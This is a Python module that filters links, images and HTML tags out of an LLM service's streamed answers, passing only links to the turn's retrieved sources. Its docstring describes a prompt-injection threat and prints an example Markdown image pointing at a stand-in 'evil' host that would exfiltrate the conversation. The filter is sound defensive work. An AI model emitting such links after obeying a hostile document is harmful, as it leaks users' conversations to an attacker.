"""An answer's links and pictures: none but to the sources' own addresses leaves the service.

A model that obeys a hostile document would write `![](http://evil/?q=what-was-said)`, and a
front end that renders it would send what was said there. So what Markdown (CommonMark, and
GitHub's bare addresses) or HTML would make a link, a picture or a tag of is changed into text
that reads nearly the same, in code too: some front ends run what stands there.

Our own filter rather than a sanitiser: those take whole HTML, and this is Markdown in pieces.
"""

import re
from collections.abc import AsyncGenerator, Iterable
from contextlib import aclosing

from msgspec.structs import replace

from app.events import Event, Failed, Retrieved, RouteChosen, TextDelta, ToolRan

_TOKEN = re.compile(
    r"(?P<inline>\](?=\())"  # of [text](address)
    r"|(?P<definition>\](?=:))"  # of [name]: address
    r"|(?P<tag><(?=[a-z/!?])(?!br ?/?>|b(?:r ?/?)?\Z))"
    r"|(?P<reference>&(?=\#|(?:colon|sol|period);))"  # what hides the next three
    r"|(?P<scheme>(?<![a-z0-9])https?:\\?/\\?/)"
    r"|(?P<slash>/(?=\\?/))"
    r"|(?P<www>(?<=www)\\?\.)",
    re.IGNORECASE,
)
_BEHIND = 3
"""Characters that a token looks back on."""
_SPACED = {"inline": "] ", "definition": "] ", "tag": "< ", "reference": "& ", "slash": "/ "}

_MAY_BEGIN_A_TOKEN = re.compile(r"[\]<&h/.\\]", re.IGNORECASE)
# An end of text that may be the beginning of a token.
_PARTIAL = re.compile(
    r"(?:\]|<(?:b(?:r ?/?)?)?|/\\?|(?<=www)\\"
    r"|&(?:c(?:o(?:l(?:on?)?)?)?|s(?:ol?)?|p(?:e(?:r(?:i(?:od?)?)?)?)?)?"
    r"|(?<![a-z0-9])h(?:t(?:t(?:ps?(?::\\?/?\\?)?)?)?)?)\Z",
    re.IGNORECASE,
)
_ADDRESS = re.compile(r"https?://[^\s<>()\[\]\"'`\\]{1,2000}")
# What may follow an address without being part of it: whatever else did would be, where the
# brackets before it make no link after all. White space is ASCII's: of the rest each renderer
# has its own idea.
_END_OF_ADDRESS = re.compile(r"[.,;:!?)\]*_~'\">]{0,3}(?:[ \t\n\v\f\r]|(?P<open>\Z))")


class LinkFilter:
    """Text in, in any pieces; the same text out, less its links. Holds back as little as it can."""

    def __init__(self) -> None:
        self._allowed: list[str] = []
        self._text = ""
        self._at = 0  # what stands before was given out

    def allow(self, addresses: Iterable[str | None]) -> None:
        """Let links to these pass, letter by letter as they are here."""
        own = {address for address in addresses if address and _ADDRESS.fullmatch(address)}
        # The longest first: one may begin another.
        self._allowed = sorted(own.union(self._allowed), key=len, reverse=True)

    def feed(self, text: str) -> str:
        """What can be given out now; may be empty."""
        if self._at == len(self._text) and not _MAY_BEGIN_A_TOKEN.search(text):
            # Most pieces of most answers.
            self._text = self._text[-_BEHIND:] + text
            self._at = len(self._text)
            return text
        return self._take(text, final=False)

    def end(self) -> str:
        """What was held back, once nothing follows it."""
        return self._take("", final=True)

    def _take(self, more: str, *, final: bool) -> str:
        text = self._text = self._text[max(0, self._at - _BEHIND) :] + more
        at = min(self._at, _BEHIND)
        out: list[str] = []
        end = None
        while token := _TOKEN.search(text, at):
            kept = self._kept(token, final=final)
            if kept is None:
                end = token.start()
                break
            out += text[at : token.start()], kept or self._spaced(token)
            at = token.start() + len(kept) if kept else token.end()
        if end is None:
            partial = None if final else _PARTIAL.search(text, at)
            end = partial.start() if partial else len(text)
        out.append(text[at:end])
        self._at = end
        return "".join(out)

    def _kept(self, token: re.Match[str], *, final: bool) -> str | None:
        """What of the text passes as a link to a source; None: more text will tell."""
        kind, rest = token.lastgroup, token.string[token.start() :]
        undecided = False
        for address in self._allowed if kind in ("inline", "scheme") else ():
            link = f"]({address})" if kind == "inline" else address
            if rest.startswith(link):
                end = _END_OF_ADDRESS.match(rest, len(link))
                if end and (final or end["open"] is None):
                    return link
                undecided = undecided or bool(end)
            undecided = undecided or link.startswith(rest)
        return None if undecided and not final else ""

    @staticmethod
    def _spaced(token: re.Match[str]) -> str:
        kind = token.lastgroup or ""
        return _SPACED.get(kind) or ("" if kind == "scheme" else f"{token[0]} ")


async def without_strange_links(
    events: AsyncGenerator[Event], before: str = ""
) -> AsyncGenerator[Event]:
    """A turn's events, whose text links to nothing but the turn's own sources.

    `before` is what the caller had of the answer already.
    """
    links = LinkFilter()
    said = [before]
    async with aclosing(events):
        async for event in events:
            if isinstance(event, TextDelta):
                if text := links.feed(event.text):
                    said.append(text)
                    yield TextDelta(text)
                continue
            if isinstance(event, Retrieved | ToolRan):
                links.allow(passage.uri for passage in event.passages)
            if not isinstance(event, Retrieved | RouteChosen) and (text := links.end()):
                said.append(text)
                yield TextDelta(text)
            if isinstance(event, Failed):
                event = replace(event, partial_text="".join(said))
            yield event
